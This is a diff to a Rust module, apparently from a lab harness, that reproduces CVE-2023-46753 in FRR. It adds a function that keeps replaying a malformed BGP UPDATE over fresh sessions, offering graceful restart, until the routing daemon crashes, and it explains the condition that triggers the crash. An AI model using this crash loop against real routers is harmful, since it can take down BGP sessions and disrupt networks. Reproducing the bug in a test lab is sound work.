@@ -3,10 +3,16 @@
 /// CVE-2023-46753: FRR up to 9.0 with a route-map that prepends dies of an UPDATE without a path.
 pub mod cve_2023_46753 {
     use crate::daemons::Instance;
-    use crate::lab::Netns;
+    use crate::lab::{Lab, Netns, Site, wait_for};
     use crate::operate;
+    use crate::replayer::Replayer;
     use anyhow::Result;
     use std::net::IpAddr;
+    use std::time::Duration;
+
+    /// How often the UPDATE is sent, each time over a new session, and how long each may take.
+    const ATTEMPTS: u32 = 3;
+    const EACH: Duration = Duration::from_secs(10);
 
     /// UPDATE: four unknown attributes, none of the mandatory ones, and 198.51.100.0/24.
     pub const UPDATE: &str =
@@ -20,5 +26,25 @@ pub mod cve_2023_46753 {
              router bgp 65000\naddress-family ipv4 unicast\nneighbor {neighbour} route-map IN in"
         );
         operate::control(frr, ns, &commands).map(|_| ())
+    }
+
+    /// Sends what `raw` says (octets in hexadecimal, or a file of them) over new sessions until the daemon is dead; returns the last sender, and
+    /// whether it died. FRR misses the check that would save it only where its neighbour offers graceful restart, as virtd does on every leg.
+    pub fn send_until_dead(
+        lab: &Lab,
+        site: &Site,
+        raw: &str,
+        mut dead: impl FnMut() -> bool,
+    ) -> Result<(Replayer, bool)> {
+        let mut attempt = 1;
+        loop {
+            let mut sender = Replayer::dial(lab, site, false, &["--graceful-restart", "--raw", raw])?;
+            let died = wait_for("the daemon to die", EACH, &mut dead).is_ok();
+            if died || attempt == ATTEMPTS {
+                return Ok((sender, died));
+            }
+            sender.finish()?;
+            attempt += 1;
+        }
     }
 }
